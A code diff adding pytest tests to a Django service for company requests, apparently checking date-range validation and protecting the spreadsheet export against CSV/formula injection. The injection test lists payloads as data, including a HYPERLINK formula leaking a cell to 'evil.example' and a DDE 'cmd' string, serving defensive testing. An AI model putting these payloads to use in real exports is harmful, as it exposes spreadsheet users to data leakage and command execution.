@@ -5,6 +5,7 @@ from io import BytesIO
 
 import pytest
 from django.conf import settings
+from django.utils import timezone
 from openpyxl import load_workbook
 
 from qinqing.core.testing import ANONYMOUS, check_matrix
@@ -157,6 +158,17 @@ def test_dashboard_charts_and_export(client, world, submit):
     wb = load_workbook(BytesIO(response.content))
     assert wb.sheetnames == ["诉求工单", "活动"]
     assert wb["诉求工单"]["A2"].value == need.number
+
+
+def test_a_period_beyond_the_calendar_is_a_field_error_not_a_500(client, world, submit):
+    """end=9999-12-31 overflowed `end + 1 day` on the dashboard and the export (500)."""
+    submit()
+    client.force_login(world["editor"])
+    page = client.get("/needs/dashboard/?start=2024-01-01&end=9999-12-31")
+    assert page.status_code == 200 and "结束日期不能晚于" in page.content.decode()
+    export = client.get("/needs/export.xlsx?start=0001-01-01&end=9999-12-31")
+    assert export.status_code == 200  # the default period: this year
+    assert load_workbook(BytesIO(export.content))["诉求工单"].max_row == 2
 
 
 # --- API ------------------------------------------------------------------------------------
@@ -317,3 +329,40 @@ def test_a_signed_in_firm_submits_in_its_own_name(client, world):
         {"/needs/submit/": {"enterprise": 200, "volunteer": 200, "liaison": 403, ANONYMOUS: 302}},
         world,
     )
+
+
+@pytest.mark.parametrize(
+    "name",
+    ['=HYPERLINK("https://evil.example/?leak="&A1,"点击查看")', "+1+cmd|' /C calc'!A0", "@SUM(A1)"],
+)
+def test_a_formula_typed_into_the_public_form_is_text_in_the_export(client, world, qr, name):
+    """A firm name from the anonymous QR form reaches the dispatcher's spreadsheet as the text
+    typed, never as a formula Excel would evaluate (OWASP CSV injection); counts stay numbers."""
+    from qinqing.activities import services as activities
+
+    response = client.post(
+        f"/needs/q/{qr.key}/",
+        {"uscc": FIRM_USCC, "company_name": name, "phone": "13900001234", "text": "开票额度不够"},
+    )
+    assert response.status_code == 302
+    lead = world["editor"].role_grants.first().organisation
+    now = timezone.now()
+    activities.event_create(
+        actor=None,
+        kind="training",
+        title="=1+1",
+        lead_department=lead,
+        starts_at=now,
+        ends_at=now,
+        place="区政务中心",
+        capacity=30,
+    )
+    client.force_login(world["dispatcher"])
+    export = client.get("/needs/export.xlsx")
+    assert export.status_code == 200
+    book = load_workbook(BytesIO(export.content))
+    firm = book["诉求工单"]["D2"]
+    assert (firm.value, firm.data_type, firm.quotePrefix) == (name, "s", True)
+    events = book["活动"]
+    assert (events["C2"].value, events["C2"].data_type) == ("=1+1", "s")
+    assert (events["G2"].value, events["G2"].data_type) == (0, "n")
